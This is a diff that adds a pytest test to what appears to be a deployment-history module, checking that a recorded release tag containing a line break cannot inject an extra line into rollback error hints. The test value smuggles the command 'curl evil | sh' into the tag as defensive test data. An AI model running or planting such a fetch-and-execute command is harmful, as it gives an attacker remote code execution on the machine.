@@ -496,3 +496,16 @@ def test_the_run_of_a_workflow_is_written_and_read_again() -> None:
 
     assert read.workflow_run == run
     assert history.interrupted_fields(read) == fields
+
+
+def test_a_recorded_tag_with_a_line_break_adds_no_line_to_the_commands() -> None:
+    evil = "sha-1111111\ncurl evil | sh"
+    known = recorded(entry(1, 1, tag=evil), entry(3, 2))
+
+    with pytest.raises(history.NoTarget) as none:
+        history.named_target(known, WEB, "sha-7777777")
+    assert "\n" not in none.value.hint
+
+    with pytest.raises(history.NoTarget) as none:
+        history.rollback_target(known, WEB, release(2), well=True)
+    assert not any(line.startswith("curl") for line in none.value.hint.splitlines())
